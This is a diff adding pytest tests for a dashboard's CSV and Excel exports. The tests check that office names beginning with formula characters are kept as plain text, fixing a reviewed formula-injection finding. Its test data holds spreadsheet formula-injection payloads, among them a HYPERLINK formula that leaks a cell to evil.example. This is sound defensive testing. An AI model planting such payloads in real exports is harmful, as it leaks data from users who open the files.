@@ -6,6 +6,7 @@ sheet that says what the export holds."""
 import csv
 import datetime as dt
 import io
+import zipfile
 
 from openpyxl import load_workbook
 
@@ -94,3 +95,60 @@ def test_an_export_of_an_empty_view_has_only_the_header(as_user):
     response = as_user("tinh").get("/dashboard/export.csv", query_string={**VIEW, "from": "2024-01-01",
                                                                            "to": "2024-01-31"})
     assert len(response.data.decode("utf-8-sig").splitlines()) == 1
+
+
+# The outside review's finding 5: names starting with =, +, -, @, TAB or CR were written as
+# formulas (a supervisor opening the export would run =HYPERLINK(...)).
+
+FORMULAS = ['=HYPERLINK("https://evil.example/?leak="&A1,"Bấm vào đây")', "+1+2", "-2+3", "@SUM(1+1)",
+            "\t=1+1", "\r=1+1"]
+SIGNS = ("=", "+", "-", "@", "\t", "\r")
+
+
+def _rename_communes_of_dm(demo_app):
+    from server.db import get_db
+    with demo_app.app_context():
+        db = get_db()
+        codes = [code for (code,) in db.execute(
+            "SELECT o.code FROM offices o JOIN offices p ON p.id = o.parent_id WHERE p.code = 'DM' ORDER BY o.code")]
+        for code, name in zip(codes, FORMULAS * 3, strict=False):
+            db.execute("UPDATE offices SET name = ? WHERE code = ?", [name, code])
+        db.execute("UPDATE meta SET value = value || 'x' WHERE key = 'offices_version'")
+        db.conn.commit()
+
+
+def test_office_names_that_look_like_formulas_open_as_plain_text_in_the_csv(demo_app, as_user):
+    _rename_communes_of_dm(demo_app)
+    for sep in ("comma", "semicolon"):
+        text = as_user("tinh").get("/dashboard/export.csv", query_string={**VIEW, "sep": sep}).data.decode("utf-8-sig")
+        cells = {cell for line in csv.reader(io.StringIO(text), delimiter=";" if sep == "semicolon" else ",")
+                 for cell in line}
+        assert len({"'" + name for name in FORMULAS} & cells) >= 2  # the communes with ratings in the view
+        assert not [cell for cell in cells if cell.startswith(SIGNS)]
+
+
+def test_office_names_that_look_like_formulas_are_strings_in_the_excel_file(demo_app, as_user):
+    _rename_communes_of_dm(demo_app)
+    data = as_user("tinh").get("/dashboard/export.xlsx", query_string=VIEW).data
+    book = load_workbook(io.BytesIO(data))
+    cells = {cell.value: cell.data_type for sheet in book for row in sheet.iter_rows() for cell in row}
+    shown = {name: cells[name] for name in FORMULAS if name in cells}  # exactly as named, not run
+    assert len(shown) >= 2 and set(shown.values()) == {"s"}
+    with zipfile.ZipFile(io.BytesIO(data)) as archive:
+        sheets = [name for name in archive.namelist() if name.startswith("xl/worksheets/")]
+        assert sheets and not [name for name in sheets if "<f>" in archive.read(name).decode()]  # no formula
+
+
+def test_every_formula_start_is_kept_as_text_in_both_formats():
+    from openpyxl import Workbook
+
+    from dashboards.exports import neutralise, xlsx_cell
+    assert [neutralise(v) for v in (-0.5, 12, None, "Xã Đắk Sắk", "")] == [-0.5, 12, None, "Xã Đắk Sắk", ""]
+    assert [neutralise(name) for name in FORMULAS] == ["'" + name for name in FORMULAS]
+    book = Workbook(write_only=True)
+    sheet = book.create_sheet("names")
+    sheet.append([xlsx_cell(sheet, name) for name in FORMULAS])
+    data = io.BytesIO()
+    book.save(data)
+    [row] = load_workbook(io.BytesIO(data.getvalue()))["names"].iter_rows()
+    assert [(cell.value, cell.data_type) for cell in row] == [(name, "s") for name in FORMULAS]
